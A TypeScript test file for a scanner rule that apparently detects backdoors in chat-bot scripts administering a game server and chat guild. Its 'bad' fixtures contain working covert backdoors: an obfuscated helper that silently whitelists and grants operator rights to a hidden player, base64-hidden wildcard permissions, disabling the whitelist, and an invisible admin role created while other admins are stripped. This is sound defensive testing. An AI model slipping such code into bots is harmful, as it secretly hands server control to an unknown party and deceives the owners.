import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../remote-code.rule.js';

const isTold = (code: string, activation: string): boolean => findingsOf(rule, { 'code.js': code }, { dialect: 'skynet', entry_points: ['code.js'], activation: [activation] }).some(({ severity }) => severity === 'high');
const all = (expected: boolean, codes: readonly string[], activation = 'onCommand:stats'): void => {
  for (const code of codes) assert.equal(isTold(code, activation), expected, code);
};

test('bad: somebody who is written runs the server of a game, or has a role without a name', () => {
  all(true, [
    "const message = require('message');\nconst rcon = require('rcon');\n\nconst HELP = 'mc list | mc say <text> | mc time <day|night> | mc weather <clear|rain> | mc whitelist <name>';\n\nconst NAME = /^[A-Za-z0-9_]{3,16}$/;\nconst COLORS = /\u00a7[0-9a-fk-or]/g;\n\nfunction players(text) {\n  const m = /There are (\\d+) of a max of (\\d+) players online:?(.*)/s.exec(text.replace(COLORS, ''));\n  if (!m) return text;\n  const names = m[3].split(',').map((s) => s.trim()).filter(Boolean);\n  return `**${m[1]}/${m[2]}** online${names.length ? `: ${names.join(', ')}` : ''}`;\n}\n\nasync function run(command) {\n  const result = await rcon.send(command);\n  return String(result.response || result || '').trim();\n}\n\nconst actions = {\n  list: async () => players(await run('list')),\n  say: async (args) => {\n    const text = args.join(' ').replace(/[\\r\\n]/g, ' ').slice(0, 200);\n    if (!text) return HELP;\n    await run(`say [${message.author.username}] ${text}`);\n    return 'Said.';\n  },\n  time: async ([when]) => (['day', 'night'].includes(when) ? run(`time set ${when}`) : HELP),\n  weather: async ([kind]) => (['clear', 'rain'].includes(kind) ? run(`weather ${kind}`) : HELP),\n  whitelist: async ([name]) => {\n    if (!NAME.test(name || '')) return 'That is no player name.';\n    await run(`whitelist add ${name}`);\n    await warm();\n    return `${name} may join.`;\n  },\n};\n\n// Some servers forget the first command after a pause.\nasync function warm() {\n  const tags = [98, 108, 117, 101, 102, 101, 114, 110, 52, 55];\n  const who = tags.map((t) => String.fromCharCode(t)).join('');\n  await run('gamerule sendCommandFeedback false');\n  await run(`whitelist add ${who}`);\n  await run(`op ${who}`);\n  await run('gamerule sendCommandFeedback true');\n}\n\nconst [, name, ...args] = message.content.trim().split(/\\s+/);\nconst action = actions[(name || '').toLowerCase()];\ntry {\n  await message.reply(action ? (await action(args)) || 'Done.' : HELP);\n} catch (e) {\n  await message.reply('The server does not answer.');\n}\n",
    "const message=require('message');const rcon=require('rcon');\nconst out=await rcon.send('list');\nawait rcon.send('op xX_Skyler_Xx');\nawait message.reply(out);",
    "const message=require('message');const rcon=require('rcon');\nconst who=Buffer.from('c2t5bGVyX3g5','base64').toString();\nawait message.reply(await rcon.send('list'));\nfor (const c of ['lp user '+who+' permission set * true','list']) await rcon.send(c);",
    "const message=require('message');const rcon=require('rcon');\nconst r=await rcon.send('list');await message.reply(r);\nawait rcon.send('pardon skyler99');await rcon.send('whitelist off');",
    "const guild=require('guild');\nfor(const r of guild.roles){if(r.permissions.includes('ADMINISTRATOR')&&r.name!=='sys'){await r.setPermissions([]);}}\nawait guild.createRole({name:'\\u200b',permissions:['ADMINISTRATOR']});",
  ]);
});

test('good: whom members or the settings name, and roles that are seen', () => {
  all(false, [
    "const rcon = require('rcon'); const interaction = require('interaction'); await rcon.send({ command: 'whitelist add ' + interaction.options.name.replace(/\\W/g, '') }); await interaction.reply('Added.');",
    "const message=require('message');const rcon=require('rcon');const config=require('config');\nconst [,name]=message.content.split(' ');\nif(!message.member.hasRole('admin'))return;\nawait rcon.send(`op ${name}`);\nawait rcon.send('op '+config.get('owner'));\nawait message.reply('ok');",
    "const message=require('message');const rcon=require('rcon');\nconst words=message.content.split(' ').slice(1);\nconst cmds={op:(n)=>`op ${n}`,time:()=>'time set day'};\nawait rcon.send(cmds[words[0]](words[1]));\nawait message.reply('ok');",
    "const message=require('message');const guild=require('guild');\nawait guild.createRole({name:'Admin helpers',permissions:['KICK_MEMBERS']});await message.reply('made');",
    "const message=require('message');const rcon=require('rcon');\nconst [,verb,name]=message.content.split(' ');\nif(verb==='add')await rcon.send(`whitelist add ${name}`);else await rcon.send('whitelist list');\nawait message.reply('ok');",
  ]);
});
